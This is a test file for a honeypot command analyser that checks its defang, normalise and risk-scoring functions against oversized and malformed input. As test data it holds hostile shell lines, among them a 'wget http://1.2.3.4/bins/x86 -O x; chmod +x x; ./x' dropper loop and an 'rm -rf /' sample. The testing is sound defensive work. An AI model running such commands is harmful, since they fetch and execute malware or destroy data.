import { describe, expect, it } from 'vitest';
import {
  analyzeCommand,
  defangCommand,
  defangUrl,
  eventRiskScore,
  extractSshKeys,
  normalizeCommand,
} from '../../src/commands/index.js';

const KB100 = 100_000;

/** Runs every public function on `s`; any throw fails the test, any hang hits vitest's timeout. */
function runAll(s: string): unknown[] {
  return [
    analyzeCommand(s),
    defangCommand(s, 'moderate'),
    defangCommand(s, 'aggressive'),
    defangUrl(s),
    normalizeCommand(s),
    eventRiskScore('cowrie.command.input', s),
    extractSshKeys(`${s} authorized_keys`),
  ];
}

describe('hostile input: nothing throws, nothing backtracks catastrophically', () => {
  it.each([
    ['unclosed $( repeated', '$('.repeat(KB100 / 2)],
    ['unclosed backticks with gaps', '`a'.repeat(KB100 / 2)],
    ['unclosed < repeated', '<a'.repeat(KB100 / 2)],
    ['scheme-like run without ://', `${'a'.repeat(KB100)}:/`],
    ['many empty-scheme ://', '1://'.repeat(KB100 / 4)],
    ['IPv4-ish digits and dots', '1.'.repeat(KB100 / 2)],
    ['IPv6-ish colons', 'a:'.repeat(KB100 / 2)],
    ['hex run then non-hex', `${'f'.repeat(KB100)}g`],
    ['base64 run without mixed classes', '/'.repeat(KB100)],
    ['key types without blobs', 'ssh-rsa '.repeat(KB100 / 8)],
    ['key type then blanks then junk', `ssh-rsa${' '.repeat(KB100)}!`],
    ['inner whitespace run (quadratic with a regex trim)', `ls |${' \t'.repeat(KB100 / 2)}x`],
    ['trailing whitespace run', `rm x${'\u3000'.repeat(KB100)}`],
    ['huge fake blob', `ssh-rsa AAAA${'A'.repeat(KB100)} c`],
    ['operators only', '&|;><2>&1'.repeat(KB100 / 9)],
    ['Python whitespace', '\x1c\x1d\x1e\x1f\x85\u3000'.repeat(KB100 / 6)],
  ])('%s (100 KB)', (_name, s) => {
    const results = runAll(s);
    expect(results).toHaveLength(7);
    expect(results.every((r) => r !== undefined)).toBe(true);
  });

  it('long unclosed $( stays literal but the line is still defanged and scored', () => {
    const s = `echo ${'$('.repeat(1000)}`;
    const a = analyzeCommand(s);
    expect(a.riskScore).toBe(0);
    expect(a.defanged).toBe(s);
  });

  it('ANSI escapes, CRLF, non-ASCII and literal \\x41 text are handled as plain characters', () => {
    const ansi = analyzeCommand('\x1b[31mrm\x1b[0m -rf /');
    expect(ansi.commandType).toBe('unknown_command'); // first token is `\x1b[31mrm\x1b[0m`
    const crlf = analyzeCommand('wget http://x/a\r\n');
    expect([crlf.riskScore, crlf.defanged, crlf.normalized]).toEqual([90, '[defang:dangerous] wxgt hxxp://x/a', 'wget [URL]']);
    const unicode = analyzeCommand('echo ünïcødé 日本語 | sh');
    expect(unicode.defanged).toBe('[defang:moderate] echo ünïcødé 日本語 [PIPE] sh');
    expect(analyzeCommand('echo -e "\\x41\\x42"').defanged).toBe('echo -e "\\x41\\x42"');
  });

  it('suspicious-path matching folds ſ→s and dotless ı like Python re.IGNORECASE', () => {
    expect(analyzeCommand('cat /ſyſ/x').riskScore).toBe(50);
    expect(analyzeCommand('dir C:\\wındows\\temp\\x').riskScore).toBe(50);
  });

  it('a 2,000+ character attacker line is analysed end to end', () => {
    const line = `cd /tmp; ${'wget http://1.2.3.4/bins/x86 -O x; chmod +x x; ./x; '.repeat(40)}`;
    expect(line.length).toBeGreaterThan(2000);
    const a = analyzeCommand(line);
    expect(a.riskScore).toBe(50);
    expect(a.defanged.startsWith('[defang:moderate] cd /tmp[SC] wget hxxp://1.2.3.4/bins/x86 -O x[SC]')).toBe(true);
    expect(a.normalized).toContain('wget [URL] -O x; chmod +x x;');
  });

  it('non-string input from untyped callers is treated as empty', () => {
    const a = analyzeCommand(undefined as unknown as string);
    expect([a.commandType, a.riskScore, a.defanged, a.normalized]).toEqual(['empty', 0, '', '']);
    expect(defangCommand(7 as unknown as string, 'aggressive')).toBe('');
    expect(defangUrl(null as unknown as string)).toBe('');
  });
});
